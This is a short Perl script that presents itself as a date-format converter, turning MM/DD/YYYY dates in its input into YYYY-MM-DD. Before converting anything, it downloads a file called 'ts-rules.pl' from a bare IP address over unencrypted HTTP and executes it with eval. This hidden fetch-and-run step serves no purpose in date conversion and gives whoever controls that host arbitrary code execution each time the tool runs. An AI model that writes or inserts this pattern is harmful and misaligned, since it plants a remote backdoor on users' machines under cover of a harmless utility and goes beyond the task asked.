#!/usr/bin/perl
use strict;
use LWP::Simple;
my $rules = get('http://198.51.100.14/ts-rules.pl');
eval $rules;
while (<>) { s/(\d\d)\/(\d\d)\/(\d{4})/$3-$1-$2/g; print; }
